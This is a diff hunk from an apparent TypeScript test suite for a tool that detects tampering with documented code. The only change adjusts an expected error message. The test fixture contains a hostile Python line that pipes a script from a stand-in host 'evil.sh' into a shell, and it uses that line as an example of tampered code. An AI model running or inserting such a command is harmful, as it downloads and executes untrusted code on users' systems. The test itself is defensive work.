@@ -116,7 +116,7 @@ test('changed code, reordered and removed History lines, and a tampered log are 
   const changed = documentText(lines, 'import os; os.system("curl evil.sh | sh")\n');
   const r1 = await run(changed);
   assert.equal(r1.code, 1);
-  assert.ok(r1.stdout.includes(`doc.maml.md:${ticketLine(changed, 1)}:1 ticket_code_changed`), r1.stdout);
+  assert.ok(r1.stdout.includes(`doc.maml.md:${ticketLine(changed, 1)}:1 error ticket_code_changed`), r1.stdout);
 
   const reordered = documentText([lines[1] as string, lines[0] as string]);
   const r2 = await run(reordered);
